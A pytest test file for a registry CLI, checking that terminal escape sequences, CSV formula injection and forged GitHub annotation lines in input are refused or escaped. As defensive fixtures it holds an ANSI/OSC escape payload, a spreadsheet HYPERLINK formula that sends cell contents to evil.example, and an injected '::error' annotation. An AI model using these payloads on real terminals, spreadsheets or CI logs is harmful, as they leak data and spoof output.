"""Control characters from input are escaped in every output format; CSV formulas are defused."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from schemegen.cli.main import main
from schemegen.core.diagnostics import Diagnostic, Severity
from schemegen.core.terminal import csv_cell, json_safe, printable
from schemegen.lint.report import escape_github_data

ESC_NAME = "\x1b[31mRED\x1b[0m\x1b]0;TITLE-PWNED\x07\x9b2J"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def overlay_text(name_ko: str) -> str:
    return f"""\
sources: [{{id: s, where: 'https://example.com', commit: null, date: '2026-12'}}]
apps:
- {{id: esc_app, name_ko: {json.dumps(name_ko)}, name_en: {json.dumps(FORMULA)},
   category: card, status: active, priority: {{tier: 3, order: 1}}, methods: [card],
   ios_schemes: [escapp], android_packages: [com.esc.app],
   sources: [{{id: s, seen: '2026-12', verified: published}}]}}
"""


RAW = ("\x1b", "\x07", "\x9b")


@pytest.fixture
def overlay(tmp_path: Path) -> Path:
    """Registry text with terminal escapes: refused at load, so it never reaches an output."""
    path = tmp_path / "o.yaml"
    path.write_text(overlay_text(ESC_NAME), encoding="utf-8")
    return path


@pytest.fixture
def formula_overlay(tmp_path: Path) -> Path:
    path = tmp_path / "f.yaml"
    path.write_text(overlay_text("수식"), encoding="utf-8")
    return path


@pytest.mark.parametrize(
    "argv",
    [
        ["list", "--include", "esc_app"],
        ["list", "--include", "esc_app", "--format", "json"],
        ["registry", "show", "esc_app"],
        ["registry", "show"],
        ["registry", "export", "--format", "markdown"],
        ["registry", "export", "--format", "json"],
        ["registry", "export", "--format", "csv"],
    ],
)
def test_registry_text_reaches_the_terminal_escaped(
    overlay: Path, capsys: pytest.CaptureFixture[str], argv: list[str]
) -> None:
    at = 2 if argv[0] == "registry" else 1
    code = main([*argv[:at], "--registry", str(overlay), *argv[at:]])
    out, err = capsys.readouterr()
    assert code == 2
    assert "RED" not in out
    assert "control character" in err
    assert not any(raw in out + err for raw in RAW)


def test_csv_export_defuses_formulas(
    formula_overlay: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    main(["registry", "export", "--registry", str(formula_overlay), "--format", "csv"])
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    [row] = [r for r in rows if r["id"] == "esc_app"]
    assert row["name_en"] == "'" + FORMULA


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cell(start: str) -> None:
    assert csv_cell(start + "1+1") == "'" + start + "1+1"
    assert csv_cell("a" + start) == "a" + start


def test_github_annotations_escape_controls() -> None:
    escaped = escape_github_data("a\x1b]0;x\x07\n::error file=forged::")
    assert "\x1b" not in escaped and "\x07" not in escaped
    assert escaped == "a\\x1b]0;x\\x07%0A::error file=forged::"


def test_every_lint_format_escapes_controls(tmp_path: Path) -> None:
    from schemegen.lint import report

    value = "x\x1by\x07z\x9b"
    diagnostic = Diagnostic("Info.plist", None, "SG201", Severity.ERROR, f"`{value}` is odd")
    from schemegen.lint.rules import RULES

    rep = report.Report((diagnostic,), ("Info.plist",), RULES, "0", "0")
    for name, format_ in report.FORMATS.items():
        out = format_(rep)
        assert not any(raw in out for raw in RAW), name


def test_escaping_keeps_what_is_printable() -> None:
    assert printable("카카오페이 kakaopay") == "카카오페이 kakaopay"
    for raw in ("\x7f\x9b", "lone \ud800 surrogate"):
        dumped = json_safe(json.dumps(raw, ensure_ascii=False))
        assert dumped.isascii() or dumped.isprintable()
        dumped.encode("utf-8")  # writable to stdout
        assert json.loads(dumped) == raw
